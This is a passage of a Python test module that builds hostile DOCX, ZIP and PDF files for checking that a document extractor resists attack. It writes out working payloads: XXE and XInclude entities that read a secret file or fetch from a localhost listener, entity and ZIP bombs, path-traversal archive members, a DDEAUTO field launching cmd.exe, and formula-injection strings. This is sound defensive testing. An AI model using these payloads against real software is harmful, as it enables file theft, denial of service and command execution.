"""Build a corpus of hostile input files: what outside organisations could send.

    python -m tests.hostile.build_corpus OUT [--port N] [--secret FILE]

writes every kind into OUT (and prints one line per file); tests import
``build_corpus`` / ``build_tree`` / ``KINDS`` instead.  Files that point
somewhere (external DTDs, linked images, templates, URI actions) point at
``http://127.0.0.1:<port>/...``, so a test that listens on that port sees
any fetch; files that try to read another file (XXE, XInclude, INCLUDETEXT,
linked sections) read ``<secret>``, whose unique content must never show up
in any output.

Bombs are small on disk and built here at test time: a 2.2 GB ZIP entry is
about 2 MB, a 4 GB Flate stream about 4 KB (deflated twice).

Every kind carries the outcome it should have (``Kind.expect``):

* ``read``: read, exit status 0;
* ``error``: a typed one-line error whose message matches ``Kind.message``;
* ``limit``: ended by the guard (time or memory limit) or by a typed error
  matching ``Kind.message`` -- never a hang;
* ``clean``: read or a typed one-line error, whichever.
"""

from __future__ import annotations

import argparse
import os
import socket
import stat
import struct
import zlib
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Callable

# ---------------------------------------------------------------- context


@dataclass
class Ctx:
    """What the files point at."""

    port: int = 9  # discard port: nothing listens by default
    secret: Path = Path("/nonexistent/secret.txt")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def secret_url(self) -> str:
        return self.secret.resolve().as_uri()


@dataclass
class Kind:
    name: str
    filename: str | bytes
    build: Callable[[Path, Ctx], None]
    expect: str = "clean"  # read | error | limit | clean
    message: str | None = None  # regex the one-line error must match (error/limit)
    needs_soffice: bool = False
    needs_tesseract: bool = False
    text: str | None = None  # a phrase a correct read must contain
    notes: str = ""
    extract_timeout: float | None = None  # --timeout for `esep extract` when not the test's default

    def path(self, root: Path) -> Path:
        if isinstance(self.filename, bytes):
            return Path(os.fsdecode(os.path.join(os.fsencode(root), self.filename)))
        return root / self.filename


# ------------------------------------------------------------------ ZIP


@lru_cache(maxsize=None)
def deflate_zeros(mib: int) -> bytes:
    """A raw deflate stream of ``mib`` MiB of zero bytes, built without
    compressing them all: after a full flush every MiB compresses alike."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    z = bytes(1 << 20)
    one = c.compress(z) + c.flush(zlib.Z_FULL_FLUSH)
    return one * mib + c.flush()


@lru_cache(maxsize=None)
def crc_zeros(mib: int) -> int:
    z = bytes(1 << 20)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(z, crc)
    return crc


def zlib_zeros(mib: int) -> bytes:
    """A zlib stream (PDF /FlateDecode) of ``mib`` MiB of zeros."""
    n = mib << 20
    adler = ((n % 65521) << 16) | 1
    return b"\x78\xda" + deflate_zeros(mib) + struct.pack(">I", adler)


@dataclass
class ZipEntry:
    name: str
    data: bytes  # as stored (already deflated when method == 8)
    crc: int
    size: int  # declared inflated size (central directory)
    method: int = 8
    local_size: int | None = None  # declared in the local header, when it lies differently
    name_bytes: bytes | None = None  # the name as stored without the UTF-8 flag (a legacy code page)


def entry(name: str, raw: bytes | str, method: int = 8) -> ZipEntry:
    raw = raw.encode("utf-8") if isinstance(raw, str) else raw
    if method == 8:
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        data = c.compress(raw) + c.flush()
    else:
        data = raw
    return ZipEntry(name, data, zlib.crc32(raw), len(raw), method)


def write_zip(path: Path, entries: list[ZipEntry]) -> None:
    """A ZIP written field by field, so that sizes can lie."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        name = e.name.encode("utf-8") if e.name_bytes is None else e.name_bytes
        flags = 0x800 if e.name_bytes is None else 0
        offset = len(out)
        local_size = e.size if e.local_size is None else e.local_size
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, e.method, 0, 0x21,
                           e.crc, len(e.data), local_size, len(name), 0) + name + e.data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, e.method, 0, 0x21,
                               e.crc, len(e.data), e.size, len(name), 0, 0, 0, 0, 0, offset) + name
    cd_at = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_at, 0)
    path.write_bytes(bytes(out))


# ----------------------------------------------------------------- DOCX

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
NS = (f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:xi="http://www.w3.org/2001/XInclude"')
CT = {
    "document": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "styles": "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml",
    "settings": "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
    "numbering": "application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml",
    "core": "application/vnd.openxmlformats-package.core-properties+xml",
}


def p(text: str, style: str | None = None) -> str:
    from xml.sax.saxutils import escape

    ppr = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f'<w:p>{ppr}<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    from xml.sax.saxutils import quoteattr

    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target={quoteattr(target)}{mode}/>'


def rels(*items: str) -> str:
    return DECL + f'<Relationships xmlns="{PKG_REL}">' + "".join(items) + "</Relationships>"


def docx_parts(body: str, *, doc_rels: tuple[str, ...] = (), settings: str = "", styles: str = "",
               numbering: str = "", title: str = "hostile", extra_ct: str = "",
               settings_rels: str | None = None) -> dict[str, str | bytes]:
    """The parts of a small, valid DOCX (document, styles, settings,
    numbering, core properties), as text to be tampered with."""
    ct = (DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="html" ContentType="text/html"/>'
          '<Default Extension="png" ContentType="image/png"/>'
          + "".join(f'<Override PartName="/{n}" ContentType="{CT[k]}"/>' for k, n in (
              ("document", "word/document.xml"), ("styles", "word/styles.xml"),
              ("settings", "word/settings.xml"), ("numbering", "word/numbering.xml"),
              ("core", "docProps/core.xml")))
          + extra_ct + "</Types>")
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": ct,
        "_rels/.rels": rels(
            rel("rId1", f"{REL}/officeDocument", "word/document.xml"),
            rel("rId2", f"{PKG_REL}/metadata/core-properties", "docProps/core.xml"),
        ),
        "word/document.xml": DECL + f"<w:document {NS}><w:body>{body}<w:sectPr/></w:body></w:document>",
        "word/_rels/document.xml.rels": rels(
            rel("rIdS", f"{REL}/styles", "styles.xml"),
            rel("rIdT", f"{REL}/settings", "settings.xml"),
            rel("rIdN", f"{REL}/numbering", "numbering.xml"),
            *doc_rels,
        ),
        "word/styles.xml": DECL + f"<w:styles {NS}>"
        '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/>'
        '<w:basedOn w:val="Normal"/></w:style>' + styles + "</w:styles>",
        "word/settings.xml": DECL + f"<w:settings {NS}>{settings}</w:settings>",
        "word/numbering.xml": DECL + f"<w:numbering {NS}>{numbering}</w:numbering>",
        "docProps/core.xml": DECL + '<cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>{title}</dc:title>'
        "<dc:creator>hostile corpus</dc:creator></cp:coreProperties>",
    }
    if settings_rels is not None:
        parts["word/_rels/settings.xml.rels"] = settings_rels
    return parts


def save_docx(path: Path, parts: dict[str, str | bytes]) -> None:
    write_zip(path, [entry(n, d) for n, d in parts.items()])


def simple_docx(text: str = "Hostile corpus: a plain report.") -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        save_docx(path, docx_parts(p("Отчёт о реализации социального проекта") + p(text)))

    return build


def with_doctype(xml: str, root: str, subset: str, system: str | None = None) -> str:
    assert xml.startswith(DECL)
    ext = f' SYSTEM "{system}"' if system else ""
    return DECL + f"<!DOCTYPE {root}{ext} [{subset}]>" + xml[len(DECL):]


LOL = "".join(
    [f'<!ENTITY lol0 "{"lol" * 10}">']
    + [f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)]
)

# Where each XML part can carry an entity reference that would reach the output.
_ENTITY_SPOTS: dict[str, tuple[str, str, str]] = {
    # part: (file name in the package, root element, how to place "&ref;")
    "document": ("word/document.xml", "w:document", "body"),
    "styles": ("word/styles.xml", "w:styles", "style"),
    "settings": ("word/settings.xml", "w:settings", "settings"),
    "numbering": ("word/numbering.xml", "w:numbering", "numbering"),
    "core": ("docProps/core.xml", "cp:coreProperties", "title"),
    "content_types": ("[Content_Types].xml", "Types", "ct"),
    "doc_rels": ("word/_rels/document.xml.rels", "Relationships", "rel"),
    "root_rels": ("_rels/.rels", "Relationships", "rootrel"),
}


def _entity_docx(part: str, subset: str, ref: str, system: str | None, path: Path) -> None:
    name, root, spot = _ENTITY_SPOTS[part]
    body = p("Entity test", style="Heading1") + p("before " + "\x00REF\x00" + " after")
    kwargs: dict = {}
    if spot == "style":
        kwargs["styles"] = '<w:style w:type="paragraph" w:styleId="Evil"><w:name w:val="&REF;"/></w:style>'
        body += p("styled", style="Evil")
    elif spot == "settings":
        kwargs["settings"] = '<w:docVars><w:docVar w:name="v" w:val="&REF;"/></w:docVars>'
    elif spot == "numbering":
        kwargs["numbering"] = ('<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">'
                               '<w:lvlText w:val="&REF;"/></w:lvl></w:abstractNum>')
    elif spot == "title":
        kwargs["title"] = "&REF;"
    elif spot == "ct":
        kwargs["extra_ct"] = '<Default Extension="ent" ContentType="&REF;"/>'
    elif spot == "rel":
        kwargs["doc_rels"] = ('<Relationship Id="rIdE" Type="%s/hyperlink" Target="&REF;" '
                              'TargetMode="External"/>' % REL,)
        body += ('<w:p><w:hyperlink r:id="rIdE"><w:r><w:t>entity link</w:t></w:r></w:hyperlink></w:p>')
    parts = docx_parts(body.replace("\x00REF\x00", "&REF;" if spot == "body" else "plain"), **kwargs)
    xml = parts[name]
    assert isinstance(xml, str)
    if spot == "rootrel":
        xml = xml.replace("</Relationships>", '<Relationship Id="rIdX" Type="%s/custom-properties" '
                          'Target="&REF;"/></Relationships>' % REL)
    xml = xml.replace("&REF;", ref)
    parts[name] = with_doctype(xml, root, subset, system)
    save_docx(path, parts)


def xxe_docx(part: str) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        subset = (f'<!ENTITY xxe SYSTEM "{ctx.secret_url}">'
                  f'<!ENTITY % remote SYSTEM "{ctx.url}/pe/{part}.dtd">%remote;'
                  f'<!ENTITY net SYSTEM "{ctx.url}/entity/{part}">')
        _entity_docx(part, subset, "&xxe;&net;", f"{ctx.url}/dtd/{part}.dtd", path)

    return build


def lol_docx(part: str) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        _entity_docx(part, LOL, "&lol9;", None, path)

    return build


def quadratic_blowup_docx(path: Path, ctx: Ctx) -> None:
    """One 50 KB entity referenced 50,000 times: no nesting for a limit to see."""
    subset = f'<!ENTITY big "{"x" * 50_000}">'
    _entity_docx("document", subset, "&big;" * 50_000, None, path)


def xinclude_docx(path: Path, ctx: Ctx) -> None:
    inc = (f'<xi:include href="{ctx.secret_url}" parse="text"/>'
           f'<xi:include href="{ctx.url}/xinclude.xml"/>')
    parts = docx_parts(p("XInclude test") + f"<w:p><w:r><w:t>{inc}</w:t></w:r></w:p>" + inc,
                       title=f"title {inc}")
    save_docx(path, parts)


def external_rels_docx(kind: str) -> Callable[[Path, Ctx], None]:
    """Relationships Word would follow: template, linked image, altChunk, subDocument ..."""

    def build(path: Path, ctx: Ctx) -> None:
        body = p(f"External {kind} test")
        kw: dict = {}
        extra: dict[str, str | bytes] = {}
        if kind == "template":
            kw["settings"] = '<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>'
            kw["settings_rels"] = rels(rel("rIdTpl", f"{REL}/attachedTemplate", f"{ctx.url}/template.dotm", True))
        elif kind == "image":
            body += (
                '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="x"/>'
                '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
                '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
                '<pic:blipFill><a:blip r:link="rIdImg"/></pic:blipFill><pic:spPr/></pic:pic>'
                '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
                '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdVml" o:href="%s/vml.png"/></v:shape>'
                '</w:pict></w:r></w:p>' % ctx.url
            )
            kw["doc_rels"] = (rel("rIdImg", f"{REL}/image", f"{ctx.url}/image.png", True),
                              rel("rIdVml", f"{REL}/image", f"{ctx.url}/vml.png", True))
        elif kind == "altchunk":
            body += '<w:altChunk r:id="rIdAlt"/><w:altChunk r:id="rIdAltExt"/>' + p("after the chunks")
            kw["doc_rels"] = (rel("rIdAlt", f"{REL}/aFChunk", "chunk.html"),
                              rel("rIdAltExt", f"{REL}/aFChunk", f"{ctx.url}/chunk.html", True))
            extra["word/chunk.html"] = (
                f'<html><body><p>chunk text</p><img src="{ctx.url}/alt.png">'
                f'<iframe src="{ctx.secret_url}"></iframe><link rel="stylesheet" href="{ctx.url}/a.css"></body></html>'
            )
        elif kind == "subdoc":
            body += '<w:subDoc r:id="rIdSub"/>' + p("after the subdocument")
            kw["doc_rels"] = (rel("rIdSub", f"{REL}/subDocument", f"{ctx.url}/sub.docx", True),)
        elif kind == "oleobject":
            body += ('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.12" r:id="rIdOle" '
                     'UpdateMode="Always"/></w:object></w:r></w:p>')
            kw["doc_rels"] = (rel("rIdOle", f"{REL}/oleObject", f"{ctx.url}/ole.docx", True),)
        elif kind == "fields":
            def field(instr: str, shown: str) -> str:
                from xml.sax.saxutils import escape

                return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                        f'<w:r><w:instrText xml:space="preserve">{escape(instr)}</w:instrText></w:r>'
                        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')

            body += field(f'INCLUDETEXT "{ctx.secret_url}"', "cached include")
            body += field(f'INCLUDEPICTURE "{ctx.url}/pic.png" \\d', "cached picture")
            body += field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "cached dde")
            body += (f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{ctx.secret_url}&quot;">'
                     "<w:r><w:t>simple cached</w:t></w:r></w:fldSimple></w:p>")
        elif kind == "traversal":  # an internal relationship that climbs out of the package
            body += p("after")
            kw["doc_rels"] = (rel("rIdUp", f"{REL}/image", "../../../../../../../.." + str(ctx.secret.resolve())),)
        elif kind == "hyperlinks":
            body += (f'<w:p><w:hyperlink r:id="rIdH1"><w:r><w:t>file link</w:t></w:r></w:hyperlink></w:p>'
                     f'<w:p><w:hyperlink r:id="rIdH2"><w:r><w:t>web link</w:t></w:r></w:hyperlink></w:p>')
            kw["doc_rels"] = (rel("rIdH1", f"{REL}/hyperlink", ctx.secret_url, True),
                              rel("rIdH2", f"{REL}/hyperlink", f"{ctx.url}/link", True))
        elif kind == "frameset":  # webSettings / frameset pointing outside
            kw["doc_rels"] = (rel("rIdF", f"{REL}/frame", f"{ctx.url}/frame.docx", True),
                              rel("rIdFont", f"{REL}/font", f"{ctx.url}/font.odttf", True))
        parts = docx_parts(body, **kw)
        parts.update(extra)
        save_docx(path, parts)

    return build


def grid_span_docx(path: Path, ctx: Ctx) -> None:
    row = ('<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>' + p("wide") + "</w:tc>"
           '<w:tc>' + p("next") + "</w:tc></w:tr>")
    row2 = ('<w:tr><w:trPr><w:gridBefore w:val="2000000000"/></w:trPr><w:tc>' + p("far") + "</w:tc></w:tr>")
    tbl = '<w:tbl><w:tblGrid><w:gridCol w:w="100"/><w:gridCol w:w="100"/></w:tblGrid>' + row + row2 + "</w:tbl>"
    tbl2 = '<w:tbl>' + row + "</w:tbl>"  # no grid at all
    save_docx(path, docx_parts(p("gridSpan test") + tbl + tbl2))


def nested_tables_docx(depth: int) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        inner = p("deepest")
        for i in range(depth):
            inner = f'<w:tbl><w:tblGrid><w:gridCol w:w="100"/></w:tblGrid><w:tr><w:tc>{p(f"level {i}")}{inner}</w:tc></w:tr></w:tbl><w:p/>'
        save_docx(path, docx_parts(p("nested tables") + inner))

    return build


def deep_xml_docx(path: Path, ctx: Ctx) -> None:
    """Content controls nested 100,000 deep: far past any parser's depth limit."""
    n = 100_000
    body = "<w:sdt><w:sdtContent>" * n + p("deep") + "</w:sdtContent></w:sdt>" * n
    save_docx(path, docx_parts(p("deep xml") + body))


def style_cycle_docx(path: Path, ctx: Ctx) -> None:
    styles = ('<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style>'
              '<w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="C"/></w:style>'
              '<w:style w:type="paragraph" w:styleId="C"><w:name w:val="C"/><w:basedOn w:val="A"/></w:style>'
              '<w:style w:type="paragraph" w:styleId="S"><w:name w:val="S"/><w:basedOn w:val="S"/></w:style>'
              '<w:style w:type="character" w:styleId="CA"><w:name w:val="CA"/><w:basedOn w:val="CA"/>'
              '<w:link w:val="A"/></w:style>')
    # a chain of 20,000 styles, each based on the next
    styles += "".join(f'<w:style w:type="paragraph" w:styleId="L{i}"><w:name w:val="L{i}"/>'
                      f'<w:basedOn w:val="L{i + 1}"/></w:style>' for i in range(20_000))
    numbering = ('<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="N1"/></w:abstractNum>'
                 '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>')
    body = "".join(p(f"cycle {s}", style=s) for s in ("A", "B", "C", "S", "L0")) * 200
    save_docx(path, docx_parts(p("style cycle") + body, styles=styles, numbering=numbering))


def vmerge_docx(rows: int) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        grid = '<w:tblGrid><w:gridCol w:w="100"/><w:gridCol w:w="100"/><w:gridCol w:w="100"/></w:tblGrid>'
        first = ('<w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr>' + p("merged") + "</w:tc>"
                 "<w:tc>" + p("a0") + "</w:tc><w:tc><w:tcPr><w:vMerge w:val=\"restart\"/></w:tcPr>"
                 + p("m2") + "</w:tc></w:tr>")
        rest = "".join('<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>'
                       f'<w:tc><w:p><w:r><w:t>a{i}</w:t></w:r></w:p></w:tc>'
                       '<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>' for i in range(1, rows))
        save_docx(path, docx_parts(p("vMerge test") + f"<w:tbl>{grid}{first}{rest}</w:tbl>"))

    return build


def many_paragraphs_docx(n: int) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        body = "".join(f"<w:p><w:r><w:t>Paragraph {i}</w:t></w:r></w:p>" for i in range(n))
        save_docx(path, docx_parts(p("many paragraphs") + body))

    return build


def wide_row_docx(path: Path, ctx: Ctx) -> None:
    cells = "".join(f"<w:tc><w:p><w:r><w:t>{i}</w:t></w:r></w:p></w:tc>" for i in range(100_000))
    save_docx(path, docx_parts(p("wide row") + f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>"))


def huge_text_node_docx(path: Path, ctx: Ctx) -> None:
    body = "<w:p><w:r><w:t>" + "x" * (40 << 20) + "</w:t></w:r></w:p>"
    save_docx(path, docx_parts(p("huge text node") + body))


def zip_bomb_declared(mib: int) -> Callable[[Path, Ctx], None]:
    """An honest bomb: one entry that really inflates to ``mib`` MiB of zeros."""

    def build(path: Path, ctx: Ctx) -> None:
        parts = [entry(n, d) for n, d in docx_parts(p("zip bomb")).items()]
        parts.append(ZipEntry("word/media/image1.png", deflate_zeros(mib), crc_zeros(mib), mib << 20))
        write_zip(path, parts)

    return build


def zip_bomb_lying(path: Path, ctx: Ctx) -> None:
    """Local header and central directory both say 20 KB; the data inflates to 300 MB."""
    parts = docx_parts(p("lying zip"))
    entries = [entry(n, d) for n, d in parts.items() if n != "word/document.xml"]
    real = entry("word/document.xml", parts["word/document.xml"])
    entries.insert(2, ZipEntry("word/document.xml", deflate_zeros(300), real.crc, 20_000))
    entries.append(ZipEntry("word/media/image1.png", deflate_zeros(300), crc_zeros(300), 20_000))
    write_zip(path, entries)


def zip_bomb_local_header(path: Path, ctx: Ctx) -> None:
    """The central directory tells the truth (300 MB), the local header says 1 KB."""
    entries = [entry(n, d) for n, d in docx_parts(p("local header lies")).items()]
    entries.append(ZipEntry("word/media/image1.png", deflate_zeros(300), crc_zeros(300), 300 << 20,
                            local_size=1000))
    write_zip(path, entries)


def zip_many_small_bombs(path: Path, ctx: Ctx) -> None:
    """140 entries of 8 MiB: each under the ratio check, together over 1 GB."""
    entries = [entry(n, d) for n, d in docx_parts(p("many small bombs")).items()]
    blob, crc = deflate_zeros(8), crc_zeros(8)
    entries += [ZipEntry(f"word/media/image{i}.png", blob, crc, 8 << 20) for i in range(140)]
    write_zip(path, entries)


def zip_many_entries(path: Path, ctx: Ctx) -> None:
    entries = [entry(n, d) for n, d in docx_parts(p("many entries")).items()]
    entries += [entry(f"customXml/item{i}.xml", "<a/>", method=0) for i in range(20_000)]
    write_zip(path, entries)


def zip_encrypted_entry(path: Path, ctx: Ctx) -> None:
    entries = [entry(n, d) for n, d in docx_parts(p("encrypted entry")).items()]
    write_zip(path, entries)
    data = bytearray(path.read_bytes())
    # set the "encrypted" flag bit in every local and central header
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i >= 0:
            data[i + off] |= 1
            i = data.find(sig, i + 4)
    path.write_bytes(bytes(data))


def zip_path_traversal(path: Path, ctx: Ctx) -> None:
    """Member names that climb out and absolute ones: nothing may be written."""
    parts = docx_parts(p("path traversal"))
    parts["../../../../../tmp/esep-hostile-escaped.txt"] = "escaped"
    parts["/tmp/esep-hostile-absolute.txt"] = "absolute"
    save_docx(path, parts)


def docm_docx(path: Path, ctx: Ctx) -> None:
    """A macro-enabled document with a VBA project, named .docx."""
    parts = docx_parts(p("macro document"))
    ct = parts["[Content_Types].xml"]
    assert isinstance(ct, str)
    parts["[Content_Types].xml"] = ct.replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    ).replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"AutoOpen Shell calc.exe" * 10
    dr = parts["word/_rels/document.xml.rels"]
    assert isinstance(dr, str)
    parts["word/_rels/document.xml.rels"] = dr.replace(
        "</Relationships>", rel("rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                                "vbaProject.bin") + "</Relationships>")
    save_docx(path, parts)


def utf16_doctype_docx(path: Path, ctx: Ctx) -> None:
    """The DOCTYPE hidden in a UTF-16 document part."""
    parts = docx_parts(p("utf16") + p("&xxe;"))
    xml = parts["word/document.xml"]
    assert isinstance(xml, str)
    xml = with_doctype(xml, "w:document", f'<!ENTITY xxe SYSTEM "{ctx.secret_url}">')
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    parts["word/document.xml"] = b"\xff\xfe" + xml.encode("utf-16-le")
    save_docx(path, parts)


def zip_bombs_under_total(path: Path, ctx: Ctx) -> None:
    """126 honest entries of 8 MiB: 1,008 MB, under every ZIP limit, all held by python-docx."""
    images = tuple(rel(f"rIdM{i}", f"{REL}/image", f"media/image{i}.png") for i in range(126))
    entries = [entry(n, d) for n, d in docx_parts(p("bombs under the total"), doc_rels=images).items()]
    blob, crc = deflate_zeros(8), crc_zeros(8)
    entries += [ZipEntry(f"word/media/image{i}.png", blob, crc, 8 << 20) for i in range(126)]
    write_zip(path, entries)


SAMPLES = Path(__file__).resolve().parents[2] / "samples"
FORMULA_NAME = '=HYPERLINK("http://127.0.0.1/x","click")'
FORMULA_ROLE = "@SUM(A1:A9)"
FORMULA_CONTACTS = "+7 701 223 2025"
FORMULA_NOTE = "-1+2 note"


def excel_formulas_docx(path: Path, ctx: Ctx) -> None:
    """The final sample report whose partner row reads like formulas: = @ + -."""
    import zipfile
    from xml.sax.saxutils import escape

    src = zipfile.ZipFile(SAMPLES / "final_eco_mangystau.docx")
    parts: dict[str, str | bytes] = {i.filename: src.read(i) for i in src.infolist()}
    xml = parts["word/document.xml"].decode("utf-8")  # type: ignore[union-attr]
    empty_note = ('<w:p><w:pPr><w:rPr><w:sz w:val="22"/><w:szCs w:val="22"/></w:rPr></w:pPr></w:p>')
    old_contacts = "+7\xa0701\xa0223\xa02025 – отдел по работе с НПО</w:t></w:r></w:p></w:tc>"
    i = xml.index(old_contacts)
    j = xml.index(empty_note, i)
    xml = (xml[:i] + escape(FORMULA_CONTACTS) + xml[i + len(old_contacts) - len("</w:t></w:r></w:p></w:tc>"):j]
           + empty_note.replace("</w:pPr></w:p>", f"</w:pPr><w:r><w:t>{escape(FORMULA_NOTE)}</w:t></w:r></w:p>")
           + xml[j + len(empty_note):])
    xml = xml.replace("Управление внутренней политики Мангистауской области</w:t>", escape(FORMULA_NAME) + "</w:t>", 1)
    xml = xml.replace("Заказчик \\ Административная поддержка</w:t>", escape(FORMULA_ROLE) + "</w:t>", 1)
    parts["word/document.xml"] = xml
    save_docx(path, parts)


# ------------------------------------------------------------------ PDF

HELLO = b"BT /F1 24 Tf 72 700 Td (Hello hostile world) Tj ET"


def stream(data: bytes, extra: bytes = b"", length: bytes | None = None) -> bytes:
    length = length if length is not None else b"%d" % len(data)
    return b"<< /Length " + length + b" " + extra + b" >>\nstream\n" + data + b"\nendstream"


def raw_pdf(objs: dict[int, bytes], root: int = 1, trailer: bytes = b"", xref: bool = True) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(objs) + 1
    if xref:
        at = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for i in range(1, size):
            out += (b"%010d 00000 n \n" % offsets[i]) if i in offsets else b"0000000000 65535 f \n"
    else:
        at = 0
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, at)
    return bytes(out)


def pdf_objs(content: bytes = HELLO, *, page: bytes = b"", catalog: bytes = b"", pages: bytes = b"",
             mediabox: bytes = b"[0 0 612 792]", count: bytes = b"1", extra: dict[int, bytes] | None = None,
             kids: bytes = b"[3 0 R]") -> dict[int, bytes]:
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids " + kids + b" /Count " + count + b" " + pages + b" >>",
        3: (b"<< /Type /Page /Parent 2 0 R /MediaBox " + mediabox
            + b" /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> " + page + b" >>"),
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objs.update(extra or {})
    return objs


def pdf_kind(**kw) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        path.write_bytes(raw_pdf(pdf_objs(**kw)))

    return build


def pdf_length_self(path: Path, ctx: Ctx) -> None:
    objs = pdf_objs()
    objs[4] = stream(HELLO, length=b"4 0 R")
    path.write_bytes(raw_pdf(objs))


def pdf_length_mutual(path: Path, ctx: Ctx) -> None:
    objs = pdf_objs()
    objs[4] = stream(HELLO, length=b"6 0 R")
    objs[6] = b"7 0 R"
    objs[7] = b"6 0 R"
    path.write_bytes(raw_pdf(objs))


def pdf_objstm_length_loop(path: Path, ctx: Ctx) -> None:
    """Object 6 lives in object stream 7, whose /Length is 6 0 R (and so is the page's)."""
    objs = pdf_objs()
    objs[4] = stream(HELLO, length=b"6 0 R")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objs):
        offsets[num] = len(out)
